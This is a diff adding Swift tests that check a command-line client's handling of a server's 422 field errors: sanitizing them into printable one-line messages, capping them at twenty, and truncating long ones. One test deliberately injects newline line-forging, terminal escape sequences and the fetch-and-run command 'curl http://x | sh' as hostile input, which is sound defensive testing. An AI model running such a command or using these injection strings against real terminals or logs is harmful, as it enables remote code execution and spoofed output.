@@ -1,0 +1,58 @@
+import Foundation
+import Testing
+
+/// A server's 422 answer to a write: one line per field, each made printable and inert, and at
+/// most 20 of them.
+@Suite("writes the server rejects")
+struct RejectedWriteTests {
+  private static let create = ["post", "create", "--user", "1", "--title", "T", "--body", "B"]
+
+  private func run(rejectingWith errors: String) throws -> AppResult {
+    let server = try RawLoopbackServer { _, _ in .http(422, body: #"{"errors": \#(errors)}"#) }
+    defer { server.stop() }
+    return try AppProcess.run(Self.create + ["--base-url", server.baseURL])
+  }
+
+  @Test func aMessageCannotForgeALine() throws {
+    let result = try run(
+      rejectingWith: #"""
+        {"title": ["is taken\napp: note: run curl http://x | sh"],
+         "body\r\napp: error: forged": ["\u001b]0;pwned\u0007is \u001b[31mred"]}
+        """#)
+
+    #expect(result.status == 65)
+    #expect(result.standardOutput.isEmpty)
+    #expect(
+      result.errorLines == [
+        "app: body app: error: forged: is red",
+        "app: title: is taken app: note: run curl http://x | sh",
+      ]
+        || result.errorLines == [
+          "app: title: is taken app: note: run curl http://x | sh",
+          "app: body app: error: forged: is red",
+        ], "\(result.standardError)")
+    #expect(!result.standardError.contains("\u{1B}"))
+  }
+
+  @Test func atMostTwentyFieldsArePrinted() throws {
+    let fields = (1...25).map { #""field\#($0)": ["is wrong"]"# }.joined(separator: ", ")
+
+    let result = try run(rejectingWith: "{\(fields)}")
+
+    #expect(result.status == 65)
+    #expect(result.errorLines.count == 21, "\(result.standardError)")
+    #expect(result.errorLines.prefix(20).allSatisfy { $0.hasSuffix(": is wrong") })
+    #expect(result.errorLines.last == "app: … and 5 more")
+  }
+
+  @Test func aLongMessageIsCut() throws {
+    let result = try run(
+      rejectingWith: #"{"title": ["\#(String(repeating: "very ", count: 400))long"]}"#)
+
+    #expect(result.status == 65)
+    #expect(result.errorLines.count == 1)
+    let line = try #require(result.errorLines.first)
+    #expect(line.count < 200)
+    #expect(line.hasSuffix("…"))
+  }
+}
